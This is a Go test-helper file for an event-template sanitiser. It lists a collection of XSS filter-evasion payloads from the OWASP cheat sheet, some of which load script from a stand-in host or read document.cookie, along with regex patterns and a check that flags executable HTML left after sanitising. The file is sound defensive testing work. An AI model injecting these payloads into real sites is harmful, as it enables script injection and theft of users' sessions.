// Package eventtest holds test material shared by the tests of event templates: the XSS payload set
// and the check that sanitised HTML keeps nothing executable. Tests of package event, of the staff API
// (the template preview) and of the public event pages use the same set.
package eventtest

import (
	"regexp"
	"strings"
)

// XSSPayloads are filter-evasion tricks from the OWASP XSS Filter Evasion Cheat Sheet (and a few
// SVG and CSS classics). None of them may survive sanitising with anything executable.
var XSSPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<a onmouseover=alert(document.cookie)>xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	`<IMG SRC="jav	ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + "`" + `=alert("XSS")>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.example/xss.js?< B >`,
	`<SCRIPT SRC=//xss.example/.j>`,
	`<IMG SRC="` + "`" + `<javascript:alert>` + "`" + `('XSS')"`,
	`<iframe src=http://xss.example/scriptlet.html <`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<svg/onload=alert('XSS')>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'http://xss.example/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<div style="width: expression(alert('XSS'));">x</div>`,
	`<div style="background-image: url(javascript:alert('XSS'))">x</div>`,
	`<p style="color: red; behavior: url(xss.htc)">x</p>`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="&#106;avascript:alert(1)">click</a>`,
	`<a href="  javascript:alert(1)">click</a>`,
	`<a href="vbscript:msgbox(1)">click</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<form action="javascript:alert(1)"><button>go</button></form>`,
	`<button formaction="javascript:alert(1)">go</button>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<div><p>unclosed <b>nested <i>tags <a href="javascript:alert(1)" onclick="alert(2)">x`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<xss id=x tabindex=1 onfocus=alert(1)></xss>`,
	`"><img src=x onerror=alert(1)>`,
	`<p style="color:red" onclick="alert(1)">styled</p>`,
}

// Patterns of what must not survive sanitising.
var (
	// OnAttr is an event-handler attribute (onerror=, onload=, ...).
	OnAttr = regexp.MustCompile(`(?i)<[^>]*\son[a-z]+\s*=`)
	// ScriptTag is an opening or closing script tag.
	ScriptTag = regexp.MustCompile(`(?i)<\s*/?\s*script`)
	// BadScheme is a javascript:, vbscript: or data: URL.
	BadScheme = regexp.MustCompile(`(?i)(javascript|vbscript|data)\s*:`)
	// StyleElement is a style element.
	StyleElement = regexp.MustCompile(`(?i)<\s*style`)
	// Expression is a CSS expression() or url().
	Expression = regexp.MustCompile(`(?i)expression\s*\(|url\s*\(`)
)

// dangerousTags are elements none of which may survive sanitising.
var dangerousTags = []string{"<iframe", "<object", "<embed", "<meta", "<base", "<link", "<form", "<svg", "<body", "<frame"}

// Unsafe names everything executable or dangerous left in sanitised html: nothing means safe.
func Unsafe(html string) []string {
	var found []string
	for _, c := range []struct {
		name string
		re   *regexp.Regexp
	}{{"script tag", ScriptTag}, {"on* attribute", OnAttr}, {"javascript:/vbscript:/data: URL", BadScheme},
		{"style element", StyleElement}, {"CSS expression or url()", Expression}} {
		if c.re.MatchString(html) {
			found = append(found, c.name)
		}
	}
	lower := strings.ToLower(html)
	for _, tag := range dangerousTags {
		if strings.Contains(lower, tag) {
			found = append(found, tag)
		}
	}
	return found
}
